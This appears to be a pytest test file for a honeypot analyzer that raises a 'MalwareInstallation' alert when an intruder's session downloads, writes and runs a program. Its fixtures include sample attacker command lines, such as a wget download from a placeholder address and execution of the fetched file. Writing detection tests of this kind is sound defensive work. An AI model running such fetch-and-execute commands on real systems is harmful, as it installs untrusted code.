"""A stranger's session fetches a program and starts it."""

from __future__ import annotations

from ipaddress import ip_address
from typing import Any

import pytest

from agents.analyzer.installations import MAX_SESSIONS, Installations
from ontology.host_event import HostEvent
from ontology.records import Alert
from tests.factories import ATTACKER, T0, VICTIM, record_id


def event(number: int, kind: str, **changes: Any) -> HostEvent:
    values: dict[str, Any] = {
        "event_kind": kind,
        "host": ip_address(VICTIM),
        "source": ip_address(ATTACKER),
        "begin_us": T0 + number,
        "session_name": "5",
        "user_name": "root",
        "process_id": 100 + number,
        "sensor": "s",
    } | changes
    return HostEvent(id=record_id(f"event {number}"), **values)


FETCH = event(1, "execution", program="/usr/bin/wget", command_line="wget http://203.0.113.9/x")
MADE = event(2, "file-creation", program="/usr/bin/wget", file_path="/opt/x")
RUN = event(3, "execution", program="/opt/x", command_line="/opt/x -t 203.0.113.1")
IN_TMP = event(3, "execution", program="/home/y", command_line="./y")
SCRIPT = event(3, "execution", program="/usr/bin/dash", command_line="sh ./x")


def alerts(*events: HostEvent, pots: tuple[str, ...] = (VICTIM,)) -> list[Alert]:
    return Installations([ip_address(pot) for pot in pots], "analyzer").on_events(events)


@pytest.mark.parametrize(
    "events",
    [(FETCH, MADE, RUN), (MADE, RUN), (FETCH, IN_TMP), (MADE, SCRIPT)],
    ids=["fetched, made, run", "made, run", "fetched, run in /home", "script"],
)
def test_fetched_and_started(events: tuple[HostEvent, ...]) -> None:
    [alert] = alerts(*events)
    assert alert.classification == "MalwareInstallation"
    assert (alert.source, alert.target) == (ip_address(ATTACKER), ip_address(VICTIM))
    assert alert.host_events == tuple(sorted(e.id for e in (events[0], events[-1]))) or (
        len(events) == 3 and alert.host_events == tuple(sorted(e.id for e in events))
    )
    assert "process 103 started" in alert.explanation


def test_a_hosts_own_records_verify_nothing() -> None:
    """Whoever has taken the host can write an innocent's address there."""
    [alert] = alerts(FETCH, MADE, RUN)
    assert not alert.verified_source


def test_an_address_in_a_command_line_accuses_nobody() -> None:
    [alert] = alerts(FETCH, MADE, RUN)
    named = {alert.source, alert.target, *alert.sources, *alert.targets}
    assert not {ip_address("203.0.113.9"), ip_address("203.0.113.1")} & named


@pytest.mark.parametrize(
    "events",
    [
        (FETCH, RUN),
        (RUN,),
        (IN_TMP,),
        (RUN, MADE, FETCH),
        (MADE, event(3, "execution", program="/opt/x", session_name="6")),
        (MADE, event(3, "execution", program="/opt/x", source=None)),
        (MADE, event(3, "login"), event(4, "execution", program="/opt/x")),
        (MADE, event(3, "execution", program="/usr/bin/cat", command_line="cat ./x")),
    ],
    ids=[
        "a system's program", "not made", "not fetched", "before", "another session",
        "no session from afar", "a new login under its number", "only shown",
    ],
)  # fmt: skip
def test_what_is_no_installation(events: tuple[HostEvent, ...]) -> None:
    assert alerts(*events) == []


def test_elsewhere_people_do_this_all_day() -> None:
    assert alerts(FETCH, MADE, RUN, pots=("198.51.100.99",)) == []


def test_each_program_is_told_once_a_session() -> None:
    assert len(alerts(FETCH, MADE, RUN, RUN, event(9, "execution", program="/opt/x"))) == 1


def test_sessions_are_bounded() -> None:
    watch = Installations([ip_address(VICTIM)], "analyzer")
    for n in range(2 * MAX_SESSIONS):
        watch.on_events([event(1, "execution", program="/bin/ls", session_name=str(n))])
    assert len(watch._sessions) == MAX_SESSIONS
